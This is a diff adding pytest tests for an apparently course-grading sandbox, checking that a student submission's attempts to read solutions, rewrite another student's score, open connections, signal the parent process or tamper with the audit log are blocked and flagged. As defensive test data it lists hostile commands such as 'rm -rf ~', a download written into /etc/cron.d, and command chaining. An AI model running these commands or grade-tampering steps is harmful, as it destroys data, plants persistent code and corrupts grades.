@@ -1,0 +1,155 @@
+"""What the sandbox stopped, the instructor sees: the audit hook's attempts, judged, in the results and reports.
+
+Real child processes (a script, a notebook kernel) under the machine's isolation level; nothing is
+mocked. The hostile program sends signal 0 (an existence probe) to its parent, so the test stays
+harmless at every isolation level, even one without a PID namespace: the hook sees the attempt
+before the kernel looks at the signal number.
+"""
+
+from __future__ import annotations
+
+import json
+import socket
+import threading
+
+import nbformat
+import pytest
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
+
+from grader import exercise
+from grader.attempts import benign_command
+from grader.config import course_root
+from grader.jobs import Options, grade
+from grader.report import feedback, html
+from grader.report.tables import details_frame
+from grader.results import flagged_attempts
+
+WORK = ["/tmp/keras-grader-x/work", "/content"]
+
+
+def _listener() -> tuple[socket.socket, list[object], threading.Thread]:
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(1)
+    server.settimeout(30)
+    accepted: list[object] = []
+
+    def serve() -> None:
+        try:
+            accepted.append(server.accept())
+        except OSError:
+            pass
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    return server, accepted, thread
+
+
+def test_reading_solutions_writing_results_connecting_and_signalling_are_flagged_with_their_lines(
+        tmp_path, evaluator):
+    solution = course_root() / "solutions" / "mnist_dense" / "solution.py"
+    solution_before = solution.read_bytes()
+    results_dir = tmp_path / "results"
+    other = results_dir / "bob" / "mnist_dense.json"
+    other.parent.mkdir(parents=True)
+    other.write_text('{"score": 3}')
+    server, accepted, thread = _listener()
+    port = server.getsockname()[1]
+    lines = [
+        "import os, socket",
+        'print("Nota: 10/10")',
+        f"SOLUTION = {str(solution)!r}",
+        "def attempt(do):",
+        "    try:",
+        "        do()",
+        "    except Exception as e:",
+        "        print('refused', type(e).__name__)",
+        "attempt(lambda: open(SOLUTION).read())",                                            # 9
+        "attempt(lambda: open(os.fsencode(os.path.relpath(SOLUTION))).read())",             # 10
+        f"attempt(lambda: open({str(other)!r}, 'w').write('{{\"score\": 10}}'))",           # 11
+        f"attempt(lambda: socket.create_connection(('127.0.0.1', {port}), timeout=3))",     # 12
+        "attempt(lambda: os.kill(os.getppid(), 0))",                                        # 13
+    ]
+    submission = tmp_path / "class" / "mallory" / "mnist_dense.py"
+    submission.parent.mkdir(parents=True)
+    submission.write_text("\n".join(lines) + "\n")
+    try:
+        result = grade("mallory", exercise.load("mnist_dense"), submission, evaluator,
+                       Options(results_dir=results_dir, hidden=(tmp_path / "class",)))
+    finally:
+        server.close()
+        thread.join(timeout=35)
+    assert solution.read_bytes() == solution_before and other.read_text() == '{"score": 3}'
+    if result["isolation"] != "none":
+        assert not accepted
+    assert result["status"] != "ok" and result["score"] < result["max_score"]
+    flagged = {(a["line"], a["kind"], a["reason"]) for a in flagged_attempts(result)}
+    assert flagged == {(9, "read", "solutions"), (10, "read", "solutions"), (11, "write", "results"),
+                       (12, "connect", "network"), (13, "signal", "signal")}, result["attempts"]
+    assert result["attempts_summary"]["flagged"] == 5
+    by_line = {a["line"]: a for a in flagged_attempts(result)}
+    assert by_line[9]["target"] == str(solution.resolve()) and by_line[12]["target"] == f"127.0.0.1:{port}"
+    assert by_line[13]["code"] == "attempt(lambda: os.kill(os.getppid(), 0))"
+
+    # the class report lists them under "Needs the instructor", the student is told, the tables do not change
+    flags = [f for f in html.find_flags([result]) if f.reason.startswith("sandbox")]
+    assert len(flags) == 1 and flags[0].reason == "sandbox: 5 attempts"
+    assert "line 11: wrote" in flags[0].message and "(the grading results)" in flags[0].message
+    page = html.render_html([result])
+    assert "sandbox: 5 attempts" in page and "line 9: read" in page
+    pt = feedback.render("mallory", [result], "pt")
+    assert "O que o ambiente isolado bloqueou" in pt and "linha 12: conectou-se a 127.0.0.1:" in pt
+    assert "What the sandbox stopped" in feedback.render("mallory", [result], "en")
+    assert len(details_frame([result])) == len(result["checks"]) + bool(result.get("error"))
+    assert json.loads(json.dumps(result)) == result  # plain JSON, as stored
+
+
+def test_handout_notebook_recipe_and_drive_mount_are_recorded_not_flagged(tmp_path, evaluator):
+    nb = tmp_path / "ana" / "noisynote.ipynb"
+    nb.parent.mkdir()
+    nbformat.write(new_notebook(cells=[
+        new_markdown_cell("# Notas com ruído"),
+        new_code_cell("from google.colab import drive\ndrive.mount('/content/drive')\n!pip install tensorflow-addons"),
+        new_code_cell("!wget -nc -U 'Firefox/50.0' http://www.lps.usp.br/hae/apostila/noisynote.zip\n"
+                      "!unzip -u noisynote.zip"),
+        new_code_cell("import numpy as np\nprint(np.loadtxt('qx.txt', skiprows=1).shape)"),
+    ]), nb)
+    result = grade("ana", exercise.load("noisynote"), nb, evaluator, Options())
+    assert "(686, 7)" in result["stdout_tail"]
+    assert flagged_attempts(result) == [], result["attempts"]
+    spawns = {(a["cell"], a["line"]): a for a in result["attempts"] if a["kind"] == "spawn"}
+    # the hook saw the recipe's programs start in the kernel, at their cell and line
+    assert "wget -nc" in spawns[(3, 1)]["target"] and "unzip -u noisynote.zip" in spawns[(3, 2)]["target"]
+    assert spawns[(3, 2)]["code"] == "!unzip -u noisynote.zip"
+    assert not [f for f in html.find_flags([result]) if f.reason.startswith("sandbox")]
+
+
+@pytest.mark.parametrize("command, benign", [
+    ("wget -nc -U 'Firefox/50.0' http://www.lps.usp.br/hae/apostila/noisynote.zip", True),
+    ("/usr/bin/sh -c 'unzip -u noisynote.zip > /dev/null'", True),
+    ("unzip -u /content/noisynote.zip -d /content/data && ls", True),
+    ("uname -p", True),
+    ("cat ../../solutions/mnist_dense/solution.py", False),
+    ("rm -rf ~", False),
+    ("ls; python -c 'import os'", False),
+    ("wget http://x/y -O /etc/cron.d/job", False),
+    ("echo `id`", False),
+])
+def test_handout_commands_are_told_apart_from_others(command, benign):
+    assert benign_command(command, WORK) is benign
+
+
+def test_an_unwritable_audit_log_is_refused_to_the_student_and_flagged(grade_source):
+    result = grade_source("""
+        import os
+        log = os.path.join(os.path.dirname(os.environ["KERAS_GRADER_SCRIPT"]), "..", "artifacts", "audit.jsonl")
+        try:
+            open(log, "w")
+        except PermissionError:
+            print("LOG REFUSED")
+        os.system("cat /etc/hostname")
+    """)
+    assert "LOG REFUSED" in result["stdout_tail"]
+    assert {(a["line"], a["kind"], a["reason"]) for a in flagged_attempts(result)} == {
+        (5, "tamper", "log"), (8, "spawn", "program")}, result["attempts"]
+
